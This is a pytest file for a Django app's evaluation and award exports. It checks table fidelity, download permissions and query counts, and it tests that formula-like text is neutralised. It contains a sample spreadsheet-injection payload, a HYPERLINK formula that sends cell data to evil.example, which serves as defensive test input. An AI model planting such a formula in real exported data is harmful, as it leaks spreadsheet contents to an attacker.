"""Downloads of the evaluation and the awards: they contain what the page's
tables show (and hide), who may download them, and their query counts."""

import csv
import io

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from assessments import evaluation_review
from assessments.evaluation_finalize import finalize_evaluation
from assessments.models import Award, AwardDecision, Standing
from mentorship.models import Group
from programs.models import AwardCategory, AwardSubject
from tests.spreadsheet_checks import assert_xlsx_has_no_formulas

from .evaluation_helpers import compute, criterion, evaluating, populate

pytestmark = pytest.mark.django_db

TABS = ("students", "mentors", "groups", "completion")
EVIL = '=HYPERLINK("https://evil.example/?d="&A2,"Open")'


def url(cycle, view="cycle", *args):
    return reverse(f"admin:assessments_evaluation_{view}", args=[cycle.pk, *args])


@pytest.fixture
def cycle(world):
    cycle = evaluating(world.cycle)
    populate(cycle, students=3, judge_user=world.steering)
    compute(cycle, world.coordinator)
    return cycle


def figure(value):
    return None if value is None else round(value, 1)


def shown(client, cycle, tab):
    """(header, rows) as the evaluation page's table shows them."""
    context = client.get(url(cycle), {"tab": tab}).context
    if tab == "completion":
        header = ["Student", *(r.kind.label for r in context["requirements"])]
        rows = [
            [str(enrollment.student), *(label for _state, label in states)]
            for enrollment, states in context["page"].object_list
        ]
        return header, rows
    header = [str(label) for label, _key, _arrow in context["heads"]]
    header.insert(2, "Tied")  # the page writes "(tied)" beside the rank
    rows = [
        [
            row.name,
            row.standing.rank,
            "tied" if row.standing.tied else None,
            figure(row.standing.total),
            *("•" if hidden else figure(score and score.value) for score, hidden in row.cells),
        ]
        for row in context["page"].object_list
    ]
    return header, rows


def sheets(response):
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    return {
        sheet.title: [list(row) for row in sheet.iter_rows(values_only=True)]
        for sheet in book.worksheets
    }


def csv_rows(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def as_csv(values):
    return ["" if value is None else str(value) for value in values]


def assert_exports_show_the_tables(client, cycle):
    book = sheets(client.get(url(cycle, "export_xlsx")))
    assert list(book) == ["Students", "Mentors", "Groups", "Completion check"]
    for tab, title in zip(TABS, book, strict=True):
        header, rows = shown(client, cycle, tab)
        assert rows, tab
        assert book[title] == [header, *rows], tab
        got = csv_rows(client.get(url(cycle, "export_csv", tab)))
        assert got == [as_csv(header), *(as_csv(row) for row in rows)], tab


def test_exports_contain_what_the_table_shows(client, world, cycle):
    client.force_login(world.coordinator)
    assert_exports_show_the_tables(client, cycle)
    header, *rows = sheets(client.get(url(cycle, "export_xlsx")))["Students"]
    judged = header.index(criterion(cycle, "student_judged").label)
    # Coordinators see the judges' figures before finalization.
    assert sum(isinstance(row[judged], (int, float)) for row in rows) == 3


def test_steering_members_get_the_judged_figures_once_finalized(client, world, cycle):
    client.force_login(world.steering)
    assert_exports_show_the_tables(client, cycle)
    before = sheets(client.get(url(cycle, "export_xlsx")))["Students"]
    assert all("•" in row for row in before[1:])
    finalize_evaluation(evaluation=cycle.evaluation, by=world.coordinator)
    assert_exports_show_the_tables(client, cycle)
    after = sheets(client.get(url(cycle, "export_xlsx")))["Students"]
    assert not any("•" in row for row in after)


def test_a_shared_rank_is_marked_tied_in_the_downloads(client, world, cycle):
    students = Standing.objects.filter(evaluation=cycle.evaluation, subject="student")
    first, second, *_rest = students.order_by("rank", "pk")
    students.filter(pk__in=[first.pk, second.pk]).update(rank=1, tied=True)
    client.force_login(world.coordinator)
    header, *rows = sheets(client.get(url(cycle, "export_xlsx")))["Students"]
    assert header[1:3] == ["Rank", "Tied"]
    assert [row[2] for row in rows if row[1] == 1] == ["tied", "tied"]
    assert {row[2] for row in rows if row[1] != 1} == {None}
    assert_exports_show_the_tables(client, cycle)


def test_every_row_is_exported_not_only_the_first_page(client, world, cycle, monkeypatch):
    monkeypatch.setattr(evaluation_review, "PAGE_SIZE", 2)
    client.force_login(world.coordinator)
    students = csv_rows(client.get(url(cycle, "export_csv", "students")))
    assert len(students) - 1 == Standing.objects.filter(subject="student").count() == 4


def test_text_that_looks_like_a_formula_stays_text(client, world, cycle):
    Group.objects.filter(pk=world.team.pk).update(name=EVIL)
    client.force_login(world.coordinator)
    response = client.get(url(cycle, "export_xlsx"))
    assert_xlsx_has_no_formulas(response.content)
    # A text cell holds the name as it is; the CSV marks it with an apostrophe.
    assert EVIL in {row[0] for row in sheets(response)["Groups"][1:]}
    names = {row[0] for row in csv_rows(client.get(url(cycle, "export_csv", "groups")))[1:]}
    assert "'" + EVIL in names


def test_award_text_that_looks_like_a_formula_stays_text(client, world, cycle):
    best = Standing.objects.filter(evaluation=cycle.evaluation, subject="student")[0]
    Award.objects.create(
        evaluation=cycle.evaluation,
        category=AwardCategory.objects.filter(program=cycle.program).first(),
        subject="student",
        enrollment=best.enrollment,
        decision=AwardDecision.CONFIRMED,
        reason="@SUM(1+1)",
        citation=EVIL,
    )
    client.force_login(world.coordinator)
    response = client.get(url(cycle, "awards_xlsx"))
    assert_xlsx_has_no_formulas(response.content)
    header, row = sheets(response)["Awards"]
    assert row[7:9] == ["@SUM(1+1)", EVIL]
    exported = csv_rows(client.get(url(cycle, "awards_csv")))
    assert exported[1][7:9] == ["'@SUM(1+1)", "'" + EVIL]


def test_the_awards_export_lists_the_award_rows(client, world, cycle):
    evaluation = cycle.evaluation
    best = Standing.objects.filter(evaluation=evaluation, subject="student").order_by("rank")[0]
    category = AwardCategory.objects.filter(
        program=cycle.program, subject=AwardSubject.STUDENT
    ).first()
    Award.objects.create(
        evaluation=evaluation,
        category=category,
        subject="student",
        enrollment=best.enrollment,
        proposed=True,
        decision=AwardDecision.CONFIRMED,
        citation="For steady work.",
        published_at=timezone.now(),
    )
    client.force_login(world.steering)
    header, row = sheets(client.get(url(cycle, "awards_xlsx")))["Awards"]
    assert header == [
        "category",
        "evaluates",
        "Name",
        "rank",
        "proposed by rank",
        "tied at the quota's edge",
        "decision",
        "reason",
        "citation",
        "published",
    ]
    assert row[:7] == [
        category.label,
        "Student",
        str(best.enrollment.student),
        best.rank,
        "yes",
        "no",
        "Confirmed",
    ]
    assert row[8] == "For steady work." and row[9] is not None
    exported = csv_rows(client.get(url(cycle, "awards_csv")))
    assert exported[0] == header and exported[1][:4] == as_csv(row[:4])


def test_who_may_download(client, world, cycle):
    targets = [
        url(cycle, "export_xlsx"),
        url(cycle, "export_csv", "students"),
        url(cycle, "awards_xlsx"),
        url(cycle, "awards_csv"),
    ]
    for target in targets:
        assert reverse("admin:login") in client.get(target).url
    for person in (world.mentor, world.student):
        client.force_login(person)
        assert all(client.get(target).status_code == 302 for target in targets)
    client.force_login(world.other_coordinator)
    assert all(client.get(target).status_code == 404 for target in targets)
    client.force_login(world.coordinator)
    assert all(client.get(target).status_code == 200 for target in targets)
    assert client.get(url(cycle, "export_csv", "nothing")).status_code == 404
    page = client.get(url(cycle))
    for target in targets:
        assert f'href="{target}"' in page.text


def count(client, target):
    with CaptureQueriesContext(connection) as queries:
        assert client.get(target).status_code == 200
    return len(queries)


def test_export_queries_do_not_grow_with_students(client, world, cycle):
    targets = [url(cycle, "export_xlsx"), url(cycle, "awards_csv")]
    targets += [url(cycle, "export_csv", tab) for tab in TABS]
    client.force_login(world.steering)
    small = [count(client, target) for target in targets]
    populate(cycle, students=6, judge_user=world.steering, tag="more")
    compute(cycle, world.coordinator)
    assert [count(client, target) for target in targets] == small
